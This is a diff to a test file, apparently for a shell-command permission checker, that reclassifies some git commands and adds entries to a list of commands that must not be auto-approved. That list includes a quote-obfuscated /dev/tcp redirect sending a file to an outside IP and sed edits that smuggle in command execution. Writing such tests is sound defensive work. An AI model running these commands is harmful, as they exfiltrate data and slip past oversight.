@@ -133,7 +133,7 @@ def test_ordinary_work_goes_on(tmp_path: Path, command: str):
         "ls",
         "git status",
         "mkdir x",
-        "git add .",
+        "git branch x",
         "cp a b && rm c",
         "echo hi > notes.txt",
         "sed -i s/a/b/ x.py",
@@ -147,6 +147,7 @@ def test_what_only_changes_files_goes_on_with_a_network(tmp_path: Path, command:
 
 STRANGERS = [
     *("python3 x.py", "make", "pytest -q", "./run.sh", "bash x.sh", "node x.js", "npm test"),
+    *("git add .", "git stash", "git reset", "cat x > /dev/'t'cp/1.2.3.4/5"),
     *("source x.sh", "git commit -m x", "git rebase main", "ls && python3 x.py", "sort -o a b"),
     *("FOO=1 python3 x.py", "python3 x.py > out", "sudo make", "/tmp/ls", "cat a | python3 x.py"),
     *("sed -i s/a/curl/e x.py", "sed -i 1e x.py", "sed -i 's/a/b/;1e x' x.py", "sed -f a x"),
